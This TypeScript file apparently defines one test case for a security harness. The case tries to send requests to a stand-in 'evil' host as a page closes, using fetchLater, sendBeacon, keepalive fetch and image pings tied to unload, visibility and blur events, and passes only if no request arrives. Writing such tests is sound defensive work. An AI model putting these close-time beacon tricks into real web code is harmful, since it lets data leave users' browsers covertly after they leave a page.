import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '108',
  group: 'exfiltration',
  title: 'send something with the last breath: fetchLater, keepalive, beacons and pings when the app is closed',
  expected: '0 hits after the app is gone',
  parts: {
    prepare({ evil }) {
      const later: unknown = Reflect.get(window, 'fetchLater');
      try {
        if (typeof later === 'function') later(`${evil}/108/later`, { activateAfter: 500 });
      } catch {
        // Refused at once.
      }
      const shoot = (how: string): void => {
        navigator.sendBeacon(`${evil}/108/beacon-${how}`);
        void fetch(`${evil}/108/keepalive-${how}`, { keepalive: true, mode: 'no-cors' }).catch(() => null);
        new Image().src = `${evil}/108/image-${how}`;
      };
      for (const type of ['pagehide', 'visibilitychange', 'unload', 'blur']) addEventListener(type, () => shoot(type));
      new PerformanceObserver(() => shoot('observer')).observe({ entryTypes: ['longtask', 'event'] });
      return null;
    },
  },
  async judge({ open }) {
    const { page, run, leave } = await open();
    await run('prepare');
    await leave();
    await page.waitForTimeout(1_200);
  },
};
